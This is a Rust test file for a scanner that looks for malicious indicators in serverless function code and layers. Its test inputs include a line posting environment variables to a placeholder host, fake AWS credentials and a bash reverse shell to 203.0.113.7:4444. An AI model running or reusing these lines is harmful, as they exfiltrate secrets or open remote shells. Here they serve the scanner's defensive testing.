//! Every rule over its fixtures (`tests/indicators/RULE/{fires,quiet}/{function,layer}/…`), and what
//! holds for all of them.

use super::*;
use crate::Kind;
use evidence::Sha256Digest;
use std::fs;
use std::path::Path;

fn part(role: PartRole) -> Part {
    Part {
        name: "function-code".to_owned(),
        role,
        runtime: Some("python3.13".to_owned()),
        handler: None,
    }
}

/// A part as the rule's fixtures mean it: what is only looked for in Workers is one.
fn part_for(rule: &str, role: PartRole) -> Part {
    let is_worker = rule.starts_with("worker-");
    Part {
        runtime: Some(if is_worker { "workers" } else { "python3.13" }.to_owned()),
        ..part(role)
    }
}

fn examined(part: &Part, files: &[(&str, &[u8])]) -> Vec<Finding> {
    let mut indicators = Indicators::new(part);
    let mut contents = Contents {
        is_complete: true,
        ..Contents::default()
    };
    for (path, bytes) in files {
        let file = File {
            path: (*path).to_owned(),
            sha256: Some(Sha256Digest::of(*bytes)),
            size_bytes: bytes.len() as u64,
            mode: None,
            modified_at: None,
            kind: Kind::of(bytes, true),
            link_to: None,
        };
        indicators.file(
            &file,
            Content {
                bytes,
                is_whole: true,
            },
        );
        contents.files.push(file);
    }
    indicators.finish(&contents)
}

/// The files under a folder, as paths inside of it.
fn files_under(folder: &Path) -> Vec<(String, Vec<u8>)> {
    fn walk(root: &Path, folder: &Path, files: &mut Vec<(String, Vec<u8>)>) {
        let Ok(entries) = fs::read_dir(folder) else {
            return;
        };
        for entry in entries.flatten() {
            let path = entry.path();
            if path.is_dir() {
                walk(root, &path, files);
            } else {
                let inside = path.strip_prefix(root).unwrap();
                files.push((
                    inside.to_string_lossy().into_owned(),
                    fs::read(&path).unwrap(),
                ));
            }
        }
    }
    let mut files = Vec::new();
    walk(folder, folder, &mut files);
    files.sort();
    files
}

fn fixtures(rule: &str, what: &str) -> Vec<(PartRole, String, Vec<u8>)> {
    let folder = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/indicators")
        .join(rule)
        .join(what);
    [(PartRole::Function, "function"), (PartRole::Layer, "layer")]
        .into_iter()
        .flat_map(|(role, name)| {
            files_under(&folder.join(name))
                .into_iter()
                .map(move |(path, bytes)| (role, path, bytes))
        })
        .collect()
}

/// Rules over ELF programs: their fixtures are made by the tests below.
const MADE: &[&str] = &["program-in-script-package", "packed-program"];

#[test]
fn every_rule_fires_on_its_fixtures_and_is_quiet_on_the_others() {
    let mut wrong = Vec::new();
    for rule in RULES.iter().filter(|rule| !MADE.contains(&rule.id)) {
        for what in ["fires", "quiet"] {
            let fixtures = fixtures(rule.id, what);
            assert!(
                !fixtures.is_empty(),
                "{} has no fixture that {what}",
                rule.id
            );
            for (role, path, bytes) in fixtures {
                let findings = examined(&part_for(rule.id, role), &[(&path, &bytes)]);
                let found = findings
                    .iter()
                    .find(|finding| finding.rule == rule.id && finding.severity > Severity::Info);
                if found.is_some() != (what == "fires") {
                    wrong.push(format!("{} {what}: {path}: {found:?}", rule.id));
                }
            }
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn what_is_quiet_for_one_rule_is_quiet_for_all() {
    let mut wrong = Vec::new();
    for rule in RULES {
        for (role, path, bytes) in fixtures(rule.id, "quiet") {
            for finding in examined(&part(role), &[(&path, &bytes)]) {
                if finding.severity > Severity::Low {
                    wrong.push(format!("{}/{path}: {finding:?}", rule.id));
                }
            }
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn every_finding_can_be_acted_on_and_checked() {
    for rule in RULES {
        for (role, path, bytes) in fixtures(rule.id, "fires") {
            for finding in examined(&part(role), &[(&path, &bytes)]) {
                assert!(finding.advice.is_some(), "{finding:?}");
                let technique = finding.technique.as_deref().unwrap();
                assert!(
                    technique.starts_with('T') && matches!(technique.len(), 5 | 9),
                    "{technique}"
                );
                let proof = finding.proof.first().unwrap();
                assert_eq!(proof.exhibit, "function-code");
                assert_eq!(proof.path.as_deref(), Some(path.as_str()));
                assert!(
                    proof
                        .excerpt
                        .as_ref()
                        .is_none_or(|excerpt| excerpt.chars().count() <= 160)
                );
            }
        }
    }
}

#[test]
fn the_line_is_that_of_the_match() {
    let text = b"import os\nimport requests\n\nrequests.post('https://collect.example.net/', json=dict(os.environ))\n";
    let findings = examined(&part(PartRole::Function), &[("app.py", text)]);
    assert_eq!(findings[0].rule, "credentials-sent-away");
    assert_eq!(findings[0].proof[0].line, Some(4));
}

#[test]
fn no_secret_is_shown() {
    for rule in ["private-key", "credential-file"] {
        for (role, path, bytes) in fixtures(rule, "fires") {
            for finding in examined(&part(role), &[(&path, &bytes)]) {
                assert_eq!(finding.proof[0].excerpt, None, "{finding:?}");
            }
        }
    }
    let key = format!("AKIA{}", "ABCDEFGHIJKLMNOP");
    let secret = "wJalrXUtnFEMIxK7MDENGxbPxRfiCYabcdefghij";
    let text = format!(
        "import os, requests\nrequests.post('https://u:pw1234@collect.example.net/?X-Amz-Signature=0011', json={{'e': dict(os.environ), 'k': '{key}', 's': '{secret}'}})\n"
    );
    let written = serde_json::to_string(&examined(
        &part(PartRole::Function),
        &[("app.py", text.as_bytes())],
    ))
    .unwrap();
    for hidden in [key.as_str(), secret, "pw1234", "0011"] {
        assert!(!written.contains(hidden), "{hidden} in {written}");
    }
}

#[test]
fn hostile_names_are_escaped() {
    let findings = examined(
        &part(PartRole::Layer),
        &[("extensions/a\u{202e}b\u{1b}[2J", b"#!/bin/sh\n")],
    );
    let written = format!("{findings:?}");
    assert!(!written.contains('\u{202e}') && !written.contains('\u{1b}'));
    assert_eq!(findings[0].rule, "lambda-extension");
}

#[test]
fn many_small_hits_hide_no_great_one() {
    let shell = b"bash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n".to_vec();
    let mut files: Vec<(String, Vec<u8>)> = (0..3_000)
        .map(|number| (format!("extensions/{number}"), b"#!/bin/sh\n".to_vec()))
        .collect();
    files.push(("z.sh".to_owned(), shell));
    let files: Vec<(&str, &[u8])> = files
        .iter()
        .map(|(path, bytes)| (path.as_str(), bytes.as_slice()))
        .collect();
    let findings = examined(&part(PartRole::Layer), &files);
    assert_eq!(findings[0].rule, "reverse-shell");
    assert!(findings.len() <= 2 * MOST_PER_RULE);
    assert!(
        findings
            .iter()
            .any(|finding| finding.statement.starts_with("2975 more files")),
        "{findings:?}"
    );
}

/// An ELF program of one segment, without any code.
fn elf(kind: u16, flags: u32, content: &[u8]) -> Vec<u8> {
    let mut bytes = b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0".to_vec();
    bytes.extend_from_slice(&kind.to_le_bytes());
    bytes.extend_from_slice(&62_u16.to_le_bytes());
    bytes.extend_from_slice(&1_u32.to_le_bytes());
    bytes.extend_from_slice(&0_u64.to_le_bytes()); // entry
    bytes.extend_from_slice(&64_u64.to_le_bytes()); // program headers
    bytes.extend_from_slice(&0_u64.to_le_bytes()); // no sections
    bytes.extend_from_slice(&0_u32.to_le_bytes());
    for value in [64_u16, 56, 1, 0, 0, 0] {
        bytes.extend_from_slice(&value.to_le_bytes());
    }
    bytes.extend_from_slice(&1_u32.to_le_bytes()); // PT_LOAD
    bytes.extend_from_slice(&flags.to_le_bytes());
    for value in [120, 0, 0, content.len() as u64, content.len() as u64, 4096] {
        bytes.extend_from_slice(&value.to_le_bytes());
    }
    bytes.extend_from_slice(content);
    bytes
}

const PROGRAM: u16 = 2;
const LIBRARY: u16 = 3;

fn severities(part: &Part, rule: &str, files: &[(&str, &[u8])]) -> Vec<Severity> {
    examined(part, files)
        .into_iter()
        .filter(|finding| finding.rule == rule)
        .map(|finding| finding.severity)
        .collect()
}

#[test]
fn a_program_that_no_component_lists_is_noticed_in_a_script_package() {
    let program = elf(PROGRAM, 5, b"nothing");
    let library = elf(LIBRARY, 5, b"nothing");
    let rule = "program-in-script-package";
    let function = part(PartRole::Function);
    assert_eq!(
        severities(&function, rule, &[("helper", &program)]),
        [Severity::Medium]
    );
    assert_eq!(
        severities(&function, rule, &[("lib/libx.so.1", &library)]),
        [Severity::Low]
    );
    assert_eq!(
        severities(&function, rule, &[("lib/libx.so", &program)]),
        [Severity::Medium],
        "its name says library, its header program"
    );
    // What a component lists, wherever it lies.
    assert_eq!(
        severities(
            &function,
            rule,
            &[
                ("bin/tool", &program),
                ("x/_x.so", &library),
                (
                    "x-1.dist-info/RECORD",
                    b"x/_x.so,sha256=a,1\n../bin/tool,,\n./bin/tool,,\n"
                ),
            ]
        ),
        []
    );
    assert_eq!(
        severities(
            &function,
            rule,
            &[
                ("node_modules/@a/b/bin/tool", &program),
                ("node_modules/@a/b/package.json", b"{}")
            ]
        ),
        []
    );
    // A runtime that runs programs.
    let native = Part {
        runtime: Some("provided.al2023".to_owned()),
        ..function
    };
    assert!(severities(&native, rule, &[("helper", &program)]).is_empty());
    // Unknown: told from the files.
    let unknown = Part {
        runtime: None,
        ..native
    };
    assert!(
        severities(
            &unknown,
            rule,
            &[("bootstrap", &program), ("tool.py", b"x = 1\n")]
        )
        .is_empty()
    );
    assert_eq!(
        severities(
            &unknown,
            rule,
            &[("helper", &program), ("app.py", b"x = 1\n")]
        ),
        [Severity::Medium]
    );
}

#[test]
fn a_packed_program_is_noticed() {
    let rule = "packed-program";
    let function = part(PartRole::Function);
    let noise: Vec<u8> = (0..1_u32 << 16)
        .map(|number| (number.wrapping_mul(2_654_435_761) >> 13) as u8)
        .collect();
    for (what, program, expected) in [
        ("UPX", elf(PROGRAM, 5, b"UPX!nothing"), true),
        ("writable code", elf(PROGRAM, 7, b"nothing"), true),
        ("noise", elf(PROGRAM, 5, &noise), true),
        ("code", elf(PROGRAM, 5, &[0x90; 1 << 16]), false),
        ("data", elf(PROGRAM, 6, &noise), false),
        ("cut short", b"\x7fELF\x02\x01\x01".to_vec(), false),
    ] {
        assert_eq!(
            !severities(&function, rule, &[("tool", &program)]).is_empty(),
            expected,
            "{what}"
        );
    }
}

#[test]
fn an_elf_that_is_named_as_a_picture_is_noticed() {
    let program = elf(PROGRAM, 5, b"nothing");
    let function = part(PartRole::Function);
    assert_eq!(
        severities(&function, "disguised-file", &[("a/logo.png", &program)]),
        [Severity::High]
    );
    assert!(severities(&function, "disguised-file", &[("a/tool", &program)]).is_empty());
}

#[test]
fn headers_that_lie_are_no_end() {
    let mut program = elf(PROGRAM, 5, b"nothing");
    for at in 16..program.len() {
        let kept = program[at];
        program[at] = 0xff;
        examined(&part(PartRole::Function), &[("tool", &program)]);
        program[at] = kept;
    }
}

mod property {
    use super::*;
    use proptest::prelude::*;

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(48))]
        /// Whatever a file holds, it is judged and nothing hidden comes out.
        #[test]
        fn any_text_is_judged(
            pieces in proptest::collection::vec(
                prop_oneof![
                    Just("exec("), Just("eval("), Just("b64decode("), Just("requests.get("), Just("os.environ"), Just("AWS_SESSION_TOKEN"),
                    Just("'"), Just("\""), Just("("), Just(")"), Just("="), Just(" as x:"), Just("x"), Just("\n"), Just(";"), Just("\\"),
                    Just("https://203.0.113.1/"), Just("curl "), Just("| sh"), Just("\u{202e}"), Just("é"),
                ],
                0..60,
            ),
            name in prop_oneof![Just("a.py"), Just("a.js"), Just("a.sh"), Just("a"), Just("a.pth")],
        ) {
            let text = pieces.concat();
            for finding in examined(&part(PartRole::Layer), &[(name, text.as_bytes())]) {
                let written = format!("{finding:?}");
                let is_shown_reversed = written.contains('\u{202e}');
                prop_assert!(!is_shown_reversed);
            }
        }
    }
}
